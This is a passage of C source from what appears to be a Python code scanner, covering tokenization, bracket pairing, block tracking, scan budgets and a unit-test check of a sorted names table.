        for (size_t i = 0; i < c->n; i++) {
                const PyToken *t = &c->tok[i];

                c->pair[i] = (uint32_t)i;
                if (is_opener(t, c->src)) {
                        c->pair[i] = top;
                        top = (uint32_t)i;
                } else if (t->type == PY_TOK_FSTRING_END) {
                        /* closes its f-string and whatever was left open inside */
                        while (top != UINT32_MAX) {
                                uint32_t o = top;

                                top = c->pair[o];
                                c->pair[o] = (uint32_t)i;
                                if (c->tok[o].type == PY_TOK_FSTRING_START) {
                                        c->pair[i] = o;
                                        break;
                                }
                        }
                } else if (is_closer(t, c->src) && top != UINT32_MAX &&
                           c->tok[top].type != PY_TOK_FSTRING_START) {
                        uint32_t o = top;

                        top = c->pair[o];
                        c->pair[o] = (uint32_t)i;
                        c->pair[i] = o;
                }
        }
        while (top != UINT32_MAX) {
                uint32_t o = top;

                top = c->pair[o];
                c->pair[o] = (uint32_t)(c->n - 1);
        }
}

static int tokenize_all(Ctx *c)
{
        PyTokenizer tz;
        PyToken t;
        /* Real code has a token per 3 to 5 bytes; pages of the array never written cost nothing. */
        size_t cap = c->len / 2 + 64;
        bool code_on_line1 = false;

        c->tok = malloc(cap * sizeof(*c->tok));
        if (!c->tok)
                return -ENOMEM;
        py_tokenizer_init(&tz, c->src, c->len);
        while (py_tokenizer_next(&tz, &t)) {
                if (t.type == PY_TOK_COMMENT) {
                        if (t.line == 1 || (t.line == 2 && !code_on_line1))
                                check_coding(c, &t);
                        continue;
                }
                if (t.type == PY_TOK_NL)
                        continue;
                if (t.line == 1)
                        code_on_line1 = true;
                if (c->n == cap) {
                        PyToken *p = reallocarray(c->tok, cap * 2, sizeof(*p));

                        if (!p)
                                return -ENOMEM;
                        c->tok = p;
                        cap *= 2;
                }
                c->tok[c->n++] = t;
        }
        c->pair = malloc(MAX(c->n, (size_t)1) * sizeof(*c->pair));
        if (!c->pair)
                return -ENOMEM;
        pair_brackets(c);
        return 0;
}

static int scan_ctx(Ctx *c)
{
        int r = tokenize_all(c);

        c->decoded_at = c->value_start = SIZE_MAX;

        if (r < 0)
                return r;
        for (size_t i = 0; i < c->n && c->sh->error == 0;) {
                const PyToken *t = &c->tok[i];
                size_t nl = i;

                if (t->type == PY_TOK_INDENT || t->type == PY_TOK_DEDENT) {
                        if (t->type == PY_TOK_INDENT)
                                c->level++;
                        else if (c->level > 0)
                                c->level--;
                        i++;
                        continue;
                }
                if (t->type == PY_TOK_NEWLINE || t->type == PY_TOK_ENDMARKER) {
                        i++;
                        continue;
                }
                while (nl < c->n && c->tok[nl].type != PY_TOK_NEWLINE &&
                       c->tok[nl].type != PY_TOK_ENDMARKER)
                        nl++;
                blocks_close(c, c->level);
                do_line(c, i, nl);
                i = nl + 1;
        }
        while (c->n_blocks > 0)
                block_pop(c);
        return c->sh->error;
}

static void ctx_done(Ctx *c)
{
        free(c->tok);
        free(c->pair);
        bindings_done(&c->b);
}

int scan_python(const char *data, size_t len, ScanReport *report)
{
        /* Ordinary code spends a tenth of a step per byte folding and looking ahead; hostile
         * nesting (exec(exec(...)), getattr(getattr(...))) stops at four. Payloads scanned add up
         * to the input's size plus 1 MiB. */
        Shared sh = {
            .report = report,
            .budget = 4 * (size_t)len + (256u << 10),
            .payload_budget = len + (1u << 20),
        };
        Ctx *c;
        int r;

        if (!report || (!data && len > 0))
                return -EINVAL;
        c = calloc(1, sizeof(*c));
        if (!c)
                return -ENOMEM;
        c->src = data ? data : "";
        c->len = MIN(len, (size_t)PY_TOKENIZE_MAX_INPUT);
        c->sh = &sh;
        r = scan_ctx(c);
        ctx_done(c);
        free(c);
        free(sh.scratch);
        return r < 0 ? r : sh.error;
}

/* For the unit tests (not part of scan.h): the index of the first entry of the names table that
 * is out of order or not found by name_find(), or -1 when the table is sound. bsearch() on a
 * table out of order misses names silently; this is what catches it. */
int scan_python_check_names(void);
int scan_python_check_names(void)
{
        for (size_t i = 0; i < ELEMENTSOF(py_names); i++) {
                if (i > 0 && strcmp(py_names[i - 1].name, py_names[i].name) >= 0)
                        return (int)i;
                if (name_find(py_names[i].name) != &py_names[i])
                        return (int)i;
        }
        return -1;
}
